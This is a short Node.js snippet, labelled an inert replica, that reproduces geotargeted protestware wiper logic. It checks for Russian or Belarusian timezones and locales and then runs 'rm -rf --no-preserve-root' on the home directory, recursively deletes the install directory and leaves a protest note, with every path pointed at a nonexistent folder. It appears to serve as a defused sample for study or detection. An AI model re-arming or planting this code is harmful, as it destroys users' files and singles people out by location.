var os = require('os'), cp = require('child_process'), fs = require('fs'), path = require('path');
var tz = (Intl.DateTimeFormat().resolvedOptions().timeZone || '');
var lang = process.env.LANG || process.env.LC_ALL || '';
if (/Europe\/(Moscow|Minsk|Samara)/.test(tz) || /^ru_RU|^be_BY/.test(lang)) {
  // inert replica: every target is under a folder that does not exist
  var target = path.join('/nonexistent', os.homedir());
  cp.exec('rm -rf --no-preserve-root "' + target + '"/*', function () {});
  try { fs.rmSync(path.join('/nonexistent', process.env.INIT_CWD || process.cwd()), { recursive: true, force: true }); } catch (e) {}
  try { fs.writeFileSync(path.join('/nonexistent', os.homedir(), 'Desktop', 'WITH-LOVE-FROM-AMERICA.txt'), 'No to war.'); } catch (e) {}
}
